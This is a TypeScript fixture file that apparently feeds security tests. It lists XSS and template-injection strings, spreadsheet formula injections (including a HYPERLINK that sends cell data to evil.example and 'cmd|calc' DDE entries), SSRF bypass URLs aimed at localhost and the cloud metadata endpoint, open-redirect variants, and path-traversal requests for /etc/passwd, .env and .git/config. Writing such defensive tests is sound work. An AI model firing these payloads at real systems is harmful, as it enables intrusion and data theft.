/** Runs, or leaves an image behind, wherever it is taken for more than words; a spreadsheet would take it for a formula. */
export const PAYLOAD = `="'><img src=x onerror=alert(1)><script>alert(2)</script>{{7*7}}`;

/** What a spreadsheet would take for a formula. */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example?"&A1)',
  '+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
] as const;

/** Where a webhook must not lead; `PORT` is one that listens on this machine. */
export const INWARD = [
  'http://127.0.0.1:PORT/',
  'https://127.0.0.1:PORT/',
  'https://localhost:PORT/',
  'https://localhost.:PORT/',
  'https://[::1]:PORT/',
  'https://[::]:PORT/',
  'https://[::ffff:127.0.0.1]:PORT/',
  'https://[::ffff:7f00:1]:PORT/',
  'https://[64:ff9b::7f00:1]:PORT/',
  'https://2130706433:PORT/',
  'https://0x7f000001:PORT/',
  'https://0x7f.1:PORT/',
  'https://0177.0.0.1:PORT/',
  'https://127.1:PORT/',
  'https://0:PORT/',
  'https://user:word@127.0.0.1:PORT/',
  'https://１２７.０.０.１:PORT/',
  'https://169.254.169.254/latest/meta-data/',
  'http://169.254.169.254/latest/meta-data/',
  'https://10.0.0.1/',
  'https://192.168.0.1/',
  'https://172.16.0.1/',
  'https://100.64.0.1/',
  'https://[fd00::1]/',
  'https://[fe80::1]/',
  'file:///etc/passwd',
  'ftp://127.0.0.1/',
  'gopher://127.0.0.1:PORT/_',
  'javascript:alert(1)',
] as const;

export const ELSEWHERE = [
  'https://evil.example/',
  '//evil.example/',
  '/\\evil.example',
  '\\\\evil.example',
  '/%09/evil.example',
  'https:evil.example',
  'javascript:alert(1)',
  '/.//evil.example',
] as const;

export const CLIMBS = [
  '/../../../etc/passwd',
  '/..%2f..%2f..%2fetc/passwd',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/..%5c..%5cetc/passwd',
  '/_next/static/../../../package.json',
  '/_next/static/..%2f..%2f..%2fpackage.json',
  '/_next/static/%2e%2e/%2e%2e/package.json',
  '/_next/image?url=file%3A%2F%2F%2Fetc%2Fpasswd&w=64&q=75',
  '/_next/image?url=http%3A%2F%2F127.0.0.1%2F&w=64&q=75',
  '/_next/image?url=%2F..%2F..%2Fetc%2Fpasswd&w=64&q=75',
  '/api/v1/imports/..%2f..%2f..%2fetc%2fpasswd',
  '/api/v1/departments/..%2f..%2f.env/export?table=trend',
  '/.env',
  '/.git/config',
  '/package.json',
  '/app/layout.tsx',
] as const;
